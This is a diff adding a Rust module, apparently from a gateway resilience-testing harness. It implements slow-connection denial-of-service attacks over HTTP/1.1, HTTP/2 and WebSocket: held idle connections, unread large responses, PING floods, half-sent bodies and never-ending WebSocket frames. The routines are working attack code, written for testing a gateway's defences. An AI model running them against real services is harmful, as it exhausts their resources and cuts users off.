@@ -1,0 +1,235 @@
+//! Attacks by what is held: connections without a request, responses that are not read, bodies without an end.
+
+use std::time::Duration;
+
+use futures_util::FutureExt;
+use futures_util::StreamExt;
+use h2::client::{Builder, SendRequest};
+use serde_json::{Value, json};
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio::time::{sleep, timeout};
+
+use crate::attack::Client;
+use crate::target::HOSTILE;
+use crate::transport::{Socket, Transport, connect, open_as, open_socket, say, subscribe};
+
+/// Connections of one client; a hundred clients want more than there are.
+const CONNECTIONS: usize = 25;
+
+/// Streams of one HTTP/2 connection, and requests that are sent on one HTTP/1.1 connection.
+const STREAMS: usize = 4;
+
+const PAUSE: Duration = Duration::from_millis(20);
+
+/// The tab, which is large.
+const TAB: &str =
+    "query($id: ID!) { customer(id: $id) { sessions(first: 100) { nodes { id startedAt endedAt
+    lastActivityAt eventCount channel { label } } } } }";
+
+fn body(client: &Client) -> Value {
+    json!({"query": TAB, "variables": {"id": client.fixtures.frequent_customer}})
+}
+
+/// Connections on which nothing is sent, or no more than the transport takes to begin.
+pub(crate) async fn idle(client: &Client) {
+    if client.transport == Transport::WebSocket {
+        let mut held: Vec<Socket> = Vec::new();
+        loop {
+            held.retain_mut(|socket| socket.next().now_or_never().is_none());
+            while held.len() < CONNECTIONS {
+                client.count();
+                match open_socket(client.from, client.to).await {
+                    Some(socket) => held.push(socket),
+                    None => break,
+                }
+            }
+            sleep(PAUSE).await;
+        }
+    }
+    let mut held: Vec<TcpStream> = Vec::new();
+    loop {
+        held.retain(is_open);
+        while held.len() < CONNECTIONS {
+            let Some(mut stream) = connect(client.from, client.to).await else {
+                break;
+            };
+            client.count();
+            if client.transport == Transport::Http2 {
+                // The preface and empty settings.
+                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+                let _ = stream.write_all(preface).await;
+            }
+            held.push(stream);
+        }
+        sleep(PAUSE).await;
+    }
+}
+
+/// Whether the gateway has not closed the connection. What it sent is not read.
+fn is_open(stream: &TcpStream) -> bool {
+    let mut byte = [0];
+    match stream.peek(&mut byte).now_or_never() {
+        Some(Ok(read)) => read > 0,
+        Some(Err(_)) => false,
+        None => true,
+    }
+}
+
+/// Requests with large responses, none of which is read; HTTP/2 sends PINGs all the time.
+pub(crate) async fn unread(client: &Client) {
+    let body = body(client);
+    match client.transport {
+        Transport::Http1 => {
+            let body = body.to_string();
+            let request = format!(
+                "POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {HOSTILE}\r\n\
+                 content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
+                body.len()
+            );
+            hold(client, request.repeat(STREAMS).as_bytes()).await;
+        }
+        Transport::Http2 => {
+            let mut held = Vec::new();
+            loop {
+                if let Some(streams) = http2(client, 0).await {
+                    let (mut sender, mut responses) = (streams, Vec::new());
+                    while responses.len() < STREAMS {
+                        let Some(request) = post(&mut sender, &body.to_string(), true).await else {
+                            break;
+                        };
+                        client.count();
+                        responses.push(request);
+                    }
+                    held.push((sender, responses));
+                }
+                if held.len() > CONNECTIONS {
+                    held.remove(0);
+                }
+                sleep(PAUSE).await;
+            }
+        }
+        Transport::WebSocket => {
+            let mut held = Vec::new();
+            loop {
+                if let Some(mut socket) = open_as(client.from, client.to, HOSTILE).await {
+                    for id in 0..STREAMS {
+                        let message = subscribe(id, TAB, &body["variables"]);
+                        if say(&mut socket, &message).await.is_none() {
+                            break;
+                        }
+                        client.count();
+                    }
+                    held.push(socket);
+                }
+                if held.len() > CONNECTIONS {
+                    held.remove(0);
+                }
+                sleep(PAUSE).await;
+            }
+        }
+    }
+}
+
+/// Bodies of which half is sent; on a WebSocket fragments of a message that never ends.
+pub(crate) async fn half_sent(client: &Client) {
+    match client.transport {
+        Transport::Http1 => {
+            let request = format!(
+                "POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {HOSTILE}\r\n\
+                 content-type: application/json\r\ncontent-length: 200000\r\n\r\n{}",
+                "x".repeat(100_000)
+            );
+            hold(client, request.as_bytes()).await;
+        }
+        Transport::Http2 => {
+            let half = "x".repeat(30_000);
+            let mut held = Vec::new();
+            loop {
+                if let Some(mut sender) = http2(client, 65_535).await {
+                    let mut sent = Vec::new();
+                    while sent.len() < STREAMS {
+                        let Some(request) = post(&mut sender, &half, false).await else {
+                            break;
+                        };
+                        client.count();
+                        sent.push(request);
+                    }
+                    held.push((sender, sent));
+                }
+                if held.len() > CONNECTIONS {
+                    held.remove(0);
+                }
+                sleep(PAUSE).await;
+            }
+        }
+        Transport::WebSocket => {
+            // A text frame without its end, then empty continuations. Clients mask what they send.
+            let begin = [0x01, 0x80, 0, 0, 0, 0];
+            let go_on = [0x00, 0x80, 0, 0, 0, 0].repeat(1_000);
+            loop {
+                let Some(mut socket) = open_as(client.from, client.to, HOSTILE).await else {
+                    sleep(PAUSE).await;
+                    continue;
+                };
+                let stream = socket.get_mut();
+                let mut is_taken = stream.write_all(&begin).await.is_ok();
+                while is_taken {
+                    is_taken = stream.write_all(&go_on).await.is_ok();
+                    client.count();
+                    tokio::task::yield_now().await;
+                }
+            }
+        }
+    }
+}
+
+/// Holds connections on which these bytes were sent, and opens others for those that the gateway has closed.
+async fn hold(client: &Client, bytes: &[u8]) {
+    let mut held: Vec<TcpStream> = Vec::new();
+    loop {
+        held.retain(is_open);
+        if held.len() < CONNECTIONS
+            && let Some(mut stream) = connect(client.from, client.to).await
+        {
+            // The gateway may not take all of it, or refuse it half-way.
+            let _ = timeout(PAUSE, stream.write_all(bytes)).await;
+            client.count();
+            held.push(stream);
+        }
+        sleep(PAUSE).await;
+    }
+}
+
+/// An HTTP/2 connection with this window for each stream, which sends PINGs.
+async fn http2(client: &Client, window: u32) -> Option<SendRequest<bytes::Bytes>> {
+    let stream = connect(client.from, client.to).await?;
+    let mut builder = Builder::new();
+    builder.initial_window_size(window);
+    let (sender, mut connection) = builder.handshake(stream).await.ok()?;
+    let mut pings = connection.ping_pong()?;
+    tokio::spawn(connection);
+    tokio::spawn(async move {
+        while pings.ping(h2::Ping::opaque()).await.is_ok() {
+            sleep(PAUSE).await;
+        }
+    });
+    sender.ready().await.ok()
+}
+
+/// What a request on an HTTP/2 stream leaves to be held.
+type Held = (h2::client::ResponseFuture, h2::SendStream<bytes::Bytes>);
+
+async fn post(sender: &mut SendRequest<bytes::Bytes>, body: &str, is_whole: bool) -> Option<Held> {
+    let request = axum::http::Request::post("http://x/graphql")
+        .header("authorization", format!("Bearer {HOSTILE}"))
+        .header("content-type", "application/json")
+        .body(())
+        .ok()?;
+    // More streams than the gateway allows wait for one to end, which none does.
+    let ready = sender.clone().ready().now_or_never()?.ok()?;
+    *sender = ready;
+    let (response, mut sending) = sender.send_request(request, false).ok()?;
+    sending.send_data(body.to_owned().into(), is_whole).ok()?;
+    Some((response, sending))
+}
